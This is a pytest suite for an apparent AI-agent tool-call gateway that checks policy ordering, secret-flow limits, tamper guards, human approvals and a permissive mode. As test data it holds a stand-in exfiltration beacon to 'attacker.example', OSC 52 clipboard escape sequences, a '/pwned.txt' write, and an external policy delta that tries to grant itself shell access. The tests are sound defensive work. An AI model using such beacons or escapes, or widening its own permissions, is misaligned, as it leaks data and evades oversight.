"""Mediation pipeline: ordering, complete mediation, approvals, execution."""

import pytest

from sentinel_gate.gateway import (
    AlreadyResolvedError,
    ExecutorFailure,
    Gateway,
    Mode,
    NoSuchApprovalError,
    NotAuthorizedError,
    ProtectedPathSet,
    SessionClosedError,
    SessionContext,
    ToolDescriptor,
    UnknownToolError,
)
from sentinel_gate.model import (
    Arg,
    EMPTY_LABELS,
    Label,
    LabelKind,
    LabelSet,
    Sensitivity,
    TrustLevel,
    Verdict,
)
from sentinel_gate.policy import parse_policy
from sentinel_gate.sandbox import Page, ToolResult, World

from conftest import mk_call


ALLOW_ALL = parse_policy("allow **\n")


def make_gateway(policy=ALLOW_ALL, mode=Mode.MONITORED, **session_kwargs):
    session = SessionContext("test-session", policy, World(), mode, **session_kwargs)
    gw = Gateway(session)
    gw.register_default_tools()
    return session, gw


class TestMediateBasics:
    def test_allow_executes_and_audits_once(self):
        session, gw = make_gateway()
        call = mk_call("fs.read", {"path": "/notes.txt"})
        session.world.fs.write("/notes.txt", "hello")
        decision = gw.mediate(call)
        assert decision.verdict is Verdict.ALLOW
        assert len(session.audit) == 1
        assert session.results[call.call_id].value == "hello"

    def test_default_deny(self):
        session, gw = make_gateway(policy=parse_policy(""))
        decision = gw.mediate(mk_call("fs.read", {"path": "/x"}))
        assert decision.verdict is Verdict.DENY
        assert decision.reason_code == "default-deny"
        assert len(session.audit) == 1

    def test_unknown_tool_raises(self):
        _, gw = make_gateway()
        with pytest.raises(UnknownToolError):
            gw.mediate(mk_call("no.such_tool"))

    def test_closed_session_raises(self):
        session, gw = make_gateway()
        session.close()
        with pytest.raises(SessionClosedError):
            gw.mediate(mk_call("fs.read", {"path": "/x"}))
        with pytest.raises(SessionClosedError):
            gw.append_content("text", TrustLevel.USER)

    def test_every_mediation_appends_exactly_one_record(self):
        session, gw = make_gateway(policy=parse_policy("allow fs.read\ndeny shell.exec\n"))
        calls = [
            mk_call("fs.read", {"path": "/a"}),
            mk_call("shell.exec", {"command": "ls"}),
            mk_call("clipboard.read"),
        ]
        for c in calls:
            gw.mediate(c)
        assert len(session.audit) == len(calls)
        assert [r.seq for r in session.audit] == [1, 2, 3]
        assert [r.timestamp for r in session.audit] == [1, 2, 3]


class TestPipelineOrdering:
    def test_tamper_guard_runs_before_policy(self):
        # Policy says allow, tamper guard still wins.
        session, gw = make_gateway(protected=ProtectedPathSet(("/agent",)))
        d = gw.mediate(mk_call("fs.write", {"path": "/agent/policy.dsl", "content": "x"}))
        assert d.verdict is Verdict.DENY
        assert d.reason_code == "tcb-tamper"

    def test_tamper_guard_covers_subpaths_only(self):
        session, gw = make_gateway(protected=ProtectedPathSet(("/agent",)))
        d = gw.mediate(mk_call("fs.write", {"path": "/agents-notes.txt", "content": "x"}))
        assert d.verdict is Verdict.ALLOW

    def test_policy_deny_beats_flow_check(self):
        secret = Label(LabelKind.SECRET_MATERIAL, "tok", Sensitivity.SECRET)
        session, gw = make_gateway(policy=parse_policy("deny terminal.print\n"))
        d = gw.mediate(
            mk_call("terminal.print", {"text": Arg("leak", LabelSet([secret]))})
        )
        assert d.reason_code == "policy-deny"

    def test_flow_violation_beats_scanner(self):
        # Secret-labeled text printed to the terminal: stage 3 fires before
        # the scanner stage ever sees the OSC 52 in the same payload.
        from sentinel_gate.scenario import osc52_sequence

        secret = Label(LabelKind.SECRET_MATERIAL, "tok", Sensitivity.SECRET)
        session, gw = make_gateway()
        d = gw.mediate(
            mk_call(
                "terminal.print",
                {"text": Arg("x" + osc52_sequence("grab"), LabelSet([secret]))},
            )
        )
        assert d.reason_code == "flow-violation"

    def test_scanner_fires_after_flow_passes(self):
        from sentinel_gate.scenario import osc52_sequence

        session, gw = make_gateway()
        d = gw.mediate(mk_call("terminal.print", {"text": osc52_sequence("grab")}))
        assert d.reason_code == "scanner:osc52"

    def test_port_clamp_after_policy_allow(self):
        session, gw = make_gateway(safe_port_range=(3000, 3999))
        d = gw.mediate(mk_call("expose_port", {"port": 8080}))
        assert d.verdict is Verdict.DENY
        assert d.reason_code == "port-out-of-range"
        ok = gw.mediate(mk_call("expose_port", {"port": 3500}))
        assert ok.verdict is Verdict.ALLOW

    def test_port_clamp_ignores_portless_calls(self):
        session, gw = make_gateway(safe_port_range=(3000, 3999))
        d = gw.mediate(mk_call("clipboard.read"))
        assert d.verdict is Verdict.ALLOW


class TestFlowChecks:
    SECRET = Label(LabelKind.SECRET_MATERIAL, "tok", Sensitivity.SECRET)

    def test_secret_to_terminal_denied(self):
        session, gw = make_gateway()
        d = gw.mediate(
            mk_call("terminal.print", {"text": Arg("key", LabelSet([self.SECRET]))})
        )
        assert d.reason_code == "flow-violation"

    def test_secret_to_cleared_domain_allowed(self):
        session, gw = make_gateway(
            domain_clearances={"vault.example": LabelSet([Label(LabelKind.SECRET_MATERIAL, "*", Sensitivity.SECRET)])},
            approved_domains={"vault.example"},
        )
        d = gw.mediate(
            mk_call(
                "net.http_post",
                {"url": "https://vault.example/put", "body": Arg("key", LabelSet([self.SECRET]))},
            )
        )
        assert d.verdict is Verdict.ALLOW

    def test_rule_clearance_extends_sink(self):
        policy = parse_policy(
            'allow terminal.print clearance {SecretMaterial "tok" Secret} id "show"\n'
        )
        session, gw = make_gateway(policy=policy)
        d = gw.mediate(
            mk_call("terminal.print", {"text": Arg("key", LabelSet([self.SECRET]))})
        )
        assert d.verdict is Verdict.ALLOW
        assert d.matched_rule == "show"


class TestExecution:
    def test_execute_without_allow_raises(self):
        session, gw = make_gateway()
        with pytest.raises(NotAuthorizedError):
            gw.execute(mk_call("fs.read", {"path": "/x"}))

    def test_execute_after_deny_raises(self):
        session, gw = make_gateway(policy=parse_policy(""))
        call = mk_call("fs.read", {"path": "/x"})
        gw.mediate(call)
        with pytest.raises(NotAuthorizedError):
            gw.execute(call)

    def test_handler_exception_wrapped(self):
        session, gw = make_gateway()

        def bomb(world, call):
            raise RuntimeError("disk on fire")

        gw.register_tool(ToolDescriptor("lab.bomb", bomb))
        with pytest.raises(ExecutorFailure, match="disk on fire"):
            gw.mediate(mk_call("lab.bomb"))

    def test_result_labels_include_arg_taint(self):
        secret = Label(LabelKind.SECRET_MATERIAL, "tok", Sensitivity.SECRET)
        # Clear the file sink for secrets so the flow check lets the write by.
        session, gw = make_gateway(
            sink_clearances={"file": LabelSet([Label(LabelKind.SECRET_MATERIAL, "*", Sensitivity.SECRET)])}
        )
        call = mk_call("fs.write", {"path": "/out.txt", "content": Arg("v", LabelSet([secret]))})
        gw.mediate(call)
        assert secret in session.results[call.call_id].labels
        assert secret in session.world.fs.read("/out.txt").labels

    def test_result_segment_appended_with_user_trust(self):
        session, gw = make_gateway()
        session.world.fs.write("/a.txt", "local data")
        gw.mediate(mk_call("fs.read", {"path": "/a.txt"}))
        seg = session.segments[-1]
        assert seg.trust is TrustLevel.USER
        assert seg.content == b"local data"

    def test_web_result_segment_is_external_with_origin_label(self):
        session, gw = make_gateway(approved_domains={"news.example"})
        session.world.net.seed_page("https://news.example/today", Page("headline"))
        gw.mediate(mk_call("net.http_get", {"url": "https://news.example/today"}))
        seg = session.segments[-1]
        assert seg.trust is TrustLevel.EXTERNAL
        origins = [l for l in seg.labels if l.kind is LabelKind.UNTRUSTED_ORIGIN]
        assert origins and origins[0].source_id == "web:news.example"

    def test_duplicate_registration_rejected(self):
        _, gw = make_gateway()
        with pytest.raises(ValueError):
            gw.register_tool(ToolDescriptor("fs.read", lambda w, c: ToolResult()))


class TestApprovals:
    POLICY = parse_policy("require-approval memory.store\nallow **\n")

    def test_pending_creates_escalation(self):
        session, gw = make_gateway(policy=self.POLICY)
        call = mk_call("memory.store", {"key": "k", "content": "v"})
        d = gw.mediate(call)
        assert d.verdict is Verdict.PENDING
        assert d.approval_id == "approval-1"
        esc = session.pending["approval-1"]
        assert esc.status == "pending"
        assert esc.call == call
        # Held, not executed.
        assert session.world.memory.retrieve("k").value == ""

    def test_grant_executes_and_appends_second_record(self):
        session, gw = make_gateway(policy=self.POLICY)
        call = mk_call("memory.store", {"key": "k", "content": "v"})
        d = gw.mediate(call)
        record = gw.resolve_approval(d.approval_id, True, "op-7")
        assert record.decision.verdict is Verdict.ALLOW
        assert len(session.audit) == 2
        assert session.pending[d.approval_id].status == "approved"
        assert session.pending[d.approval_id].operator == "op-7"
        assert session.world.memory.retrieve("k").value == "v"

    def test_deny_memory_write_reason(self):
        session, gw = make_gateway(policy=self.POLICY)
        d = gw.mediate(mk_call("memory.store", {"key": "k", "content": "v"}))
        record = gw.resolve_approval(d.approval_id, False)
        assert record.decision.verdict is Verdict.DENY
        assert record.decision.reason_code == "approval:memory-write"
        assert session.world.memory.retrieve("k").value == ""

    def test_deny_other_tool_reason(self):
        session, gw = make_gateway(policy=parse_policy("require-approval shell.exec\n"))
        d = gw.mediate(mk_call("shell.exec", {"command": "ls"}))
        record = gw.resolve_approval(d.approval_id, False)
        assert record.decision.reason_code == "approval-denied"

    def test_resolution_is_write_once(self):
        session, gw = make_gateway(policy=self.POLICY)
        d = gw.mediate(mk_call("memory.store", {"key": "k", "content": "v"}))
        gw.resolve_approval(d.approval_id, True)
        with pytest.raises(AlreadyResolvedError):
            gw.resolve_approval(d.approval_id, False)

    def test_unknown_approval_id(self):
        _, gw = make_gateway(policy=self.POLICY)
        with pytest.raises(NoSuchApprovalError):
            gw.resolve_approval("approval-99", True)

    def test_auto_approve_resolves_inline(self):
        session, gw = make_gateway(policy=self.POLICY, auto_approve=True)
        d = gw.mediate(mk_call("memory.store", {"key": "k", "content": "v"}))
        assert d.verdict is Verdict.PENDING
        assert session.pending[d.approval_id].status == "approved"
        assert session.pending[d.approval_id].operator == "config:auto-approve"
        assert session.world.memory.retrieve("k").value == "v"
        assert len(session.audit) == 2

    def test_events_emitted(self):
        session, gw = make_gateway(policy=self.POLICY)
        events = []
        session.hooks.append(lambda name, data: events.append(name))
        d = gw.mediate(mk_call("memory.store", {"key": "k", "content": "v"}))
        gw.resolve_approval(d.approval_id, True)
        assert events == [
            "audit-appended",
            "escalation-created",
            "audit-appended",
            "escalation-resolved",
        ]


class TestPolicyMerge:
    BASE = parse_policy('allow fs.read\nallow policy.merge\n')

    def test_trusted_merge_applies(self):
        session, gw = make_gateway(policy=self.BASE)
        call = mk_call(
            "policy.merge", {"delta": 'allow shell.exec id "new"\n'}, trust=TrustLevel.USER
        )
        d = gw.mediate(call)
        assert d.verdict is Verdict.ALLOW
        assert any(r.rule_id == "new" for r in session.policy.rules)

    def test_external_widening_denied(self):
        session, gw = make_gateway(policy=self.BASE)
        call = mk_call(
            "policy.merge", {"delta": "allow shell.exec\n"}, trust=TrustLevel.EXTERNAL
        )
        d = gw.mediate(call)
        assert d.verdict is Verdict.DENY
        assert d.reason_code == "privilege-escalation"
        assert len(session.policy.rules) == len(self.BASE.rules)

    def test_external_narrowing_allowed(self):
        session, gw = make_gateway(policy=self.BASE)
        call = mk_call(
            "policy.merge", {"delta": 'deny fs.read id "cut"\n'}, trust=TrustLevel.EXTERNAL
        )
        d = gw.mediate(call)
        assert d.verdict is Verdict.ALLOW
        assert session.policy.rules[0].rule_id == "cut"
        follow_up = gw.mediate(mk_call("fs.read", {"path": "/x"}))
        assert follow_up.reason_code == "policy-deny"

    def test_malformed_delta_denied(self):
        session, gw = make_gateway(policy=self.BASE)
        d = gw.mediate(mk_call("policy.merge", {"delta": "allow ???"}, trust=TrustLevel.USER))
        assert d.verdict is Verdict.DENY
        assert d.reason_code == "policy-deny"

    def test_permissive_force_splices_external_delta(self):
        session, gw = make_gateway(policy=self.BASE, mode=Mode.PERMISSIVE)
        call = mk_call(
            "policy.merge", {"delta": 'allow shell.exec id "spliced"\n'}, trust=TrustLevel.EXTERNAL
        )
        d = gw.mediate(call)
        assert d.verdict is Verdict.DENY  # the monitor still says no
        assert any(r.rule_id == "spliced" for r in session.policy.rules)


class TestPermissiveMode:
    def test_denied_call_still_executes(self):
        session, gw = make_gateway(policy=parse_policy(""), mode=Mode.PERMISSIVE)
        call = mk_call("fs.write", {"path": "/pwned.txt", "content": "x"})
        d = gw.mediate(call)
        assert d.verdict is Verdict.DENY
        assert session.world.fs.exists("/pwned.txt")

    def test_exfil_marker_reaches_network(self):
        session, gw = make_gateway(policy=parse_policy(""), mode=Mode.PERMISSIVE)
        gw.mediate(mk_call("net.http_get", {"url": "https://attacker.example/beacon?m=MARKER"}))
        assert session.world.net.observed("MARKER")


class TestDeterminism:
    def test_digest_stable_across_runs(self):
        def run():
            session, gw = make_gateway(policy=parse_policy("allow fs.read\n"))
            session.world.fs.write("/a", "data")
            gw.mediate(mk_call("fs.read", {"path": "/a"}, call_id="c1"))
            gw.mediate(mk_call("shell.exec", {"command": "ls"}, call_id="c2"))
            return session.audit_digest()

        assert run() == run()

    def test_digest_changes_with_history(self):
        session, gw = make_gateway()
        gw.mediate(mk_call("clipboard.read", call_id="c1"))
        first = session.audit_digest()
        gw.mediate(mk_call("clipboard.read", call_id="c2"))
        assert session.audit_digest() != first
